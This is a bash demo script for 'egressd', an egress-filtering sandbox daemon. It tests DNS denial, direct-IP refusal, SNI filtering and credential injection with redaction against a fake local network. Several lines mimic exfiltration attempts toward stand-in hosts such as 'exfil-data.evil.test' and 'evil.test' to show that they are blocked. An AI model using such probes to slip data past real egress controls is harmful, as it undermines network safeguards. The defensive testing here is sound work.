#!/bin/bash
# The demo behind "./egress demo": egressd in a throwaway sandbox
# namespace, a fake internet in another (documentation addresses, no
# uplink, servers with certificates from a throw-away public CA), and a few
# workload actions with what egressd made of them: DNS deny, direct-IP
# refusal, an allowed HTTPS request, and a request that got a credential
# injected and redacted.
set -u
EGRESSD_BIN="$1"
export EGRESSD_BIN
HERE=$(cd "$(dirname "$0")/.." && pwd)
# shellcheck source=../tests/lib/fixture.sh
source "$HERE/tests/lib/fixture.sh"

fx_init "demo$$"
cleanup() {
	fx_down
	rm -rf "$FX_DIR"
}
trap cleanup EXIT
trap 'exit 130' INT TERM
fx_up >/dev/null || exit 2
fx_safety || exit 2
fx_servers_start >/dev/null || exit 2
chown "$FX_WORKER:$FX_WORKER" "$FX_DIR/sandbox"

say() { printf '  %-46s %s\n' "$1" "$2"; }

POLICY='{"defaultAction":"deny","egress":[
 {"action":"allow","target":"api.allowed.test"},
 {"action":"allow","target":"other.allowed.test"}]}'
fx_egressd_start "$POLICY" OPENSANDBOX_EGRESS_MITMPROXY_TRANSPARENT=true \
	EGRESSD_CA_EXPORT="$FX_DIR/sandbox/ca.pem" EGRESSD_UPSTREAM_CA="$FX_CERTS/ca.pem" >/dev/null ||
	{ echo "egressd did not start:"; tail -20 "$FX_DIR/egressd.log"; exit 1; }
SBXCA=$FX_DIR/sandbox/ca.pem
PUBCA=$FX_CERTS/ca.pem

echo "egressd demo: the sandbox may reach api.allowed.test and other.allowed.test; all else is denied."
echo "(workload = uid 1000 without capabilities; internet = a namespace holding 203.0.113.0/24 hosts)"
echo

a=$(fx_ws dig +short +time=3 +tries=1 api.allowed.test A 2>&1 | head -1)
say "DNS   api.allowed.test" "-> ${a:-no answer}  (allowed; learned by nft before the answer)"
r=$(fx_ws dig +time=3 +tries=1 @203.0.113.53 exfil-data.evil.test A 2>&1 | grep -o 'status: [A-Z]*')
if grep -q exfil-data "$FX_DIR/fakenet/dns.log" 2>/dev/null; then up="the upstream saw it!"; else up="the upstream saw nothing"; fi
say "DNS   exfil-data.evil.test" "-> ${r#status: }  (denied locally; $up)"
if fx_ws curl -sS -m 4 -o /dev/null http://203.0.113.20/ 2>/dev/null; then c="connected (LEAK)"; else c="refused (never resolved, not allowed)"; fi
say "HTTP  203.0.113.20 (direct IP)" "-> $c"
code=$(fx_ws curl -sS -m 6 --cacert "$PUBCA" -o /dev/null -w '%{http_code}' https://other.allowed.test/v2/items 2>/dev/null)
say "HTTPS https://other.allowed.test/v2/items" "-> HTTP $code  (passthrough: the server's own certificate, not decrypted)"
if fx_ws curl -sS -m 4 --cacert "$PUBCA" --resolve evil.test:443:203.0.113.10 https://evil.test/ >/dev/null 2>&1; then
	c="connected (LEAK)"
else
	c="refused (TLS alert: SNI not allowed)"
fi
say "HTTPS SNI evil.test sent to an allowed address" "-> $c"

# The control plane stores a credential; the workload only holds a fake key.
SECRET="sk-live-DEMO-$(od -An -tx1 -N16 /dev/urandom | tr -d ' \n')"
cat >"$FX_DIR/private/vault.json" <<J
{"credentials":[{"name":"api-key","source":{"type":"inline","value":"$SECRET"}}],
 "bindings":[{"name":"api","match":{"hosts":["api.allowed.test"],"methods":["GET"],"paths":["/v1/*"]},
   "auth":{"type":"bearer","credential":"api-key"}}]}
J
code=$(fx_api POST /credential-vault -H 'Content-Type: application/json' \
	--data-binary @"$FX_DIR/private/vault.json" -o /dev/null -w '%{http_code}')
say "API   POST /credential-vault (one binding)" "-> HTTP $code"
out=$(fx_ws curl -sS -m 6 --cacert "$SBXCA" -H 'Authorization: Bearer sk-fake-0000' \
	https://api.allowed.test/v1/echo 2>&1)
if grep -q "Bearer $SECRET" "$FX_DIR/fakenet/api.log" 2>/dev/null; then got="received the real key"; else got="did not receive the key"; fi
seen=$(grep -o '"Bearer [^"]*"' <<<"$out" | head -1)
if grep -q "$SECRET" <<<"$out"; then leak="the workload saw the key (LEAK)"; else leak="the workload saw $seen"; fi
say "HTTPS GET https://api.allowed.test/v1/echo" "-> the server $got;"
say "      (the server echoes the header back)" "   $leak"
echo
echo "audit log (JSON lines), a few events:"
grep -E '"event":"(dns_deny|conn_reject|inject|redact|vault_update)"' "$FX_DIR/egressd.log" |
	tail -n 6 | cut -c1-170 | sed 's/^/  /'
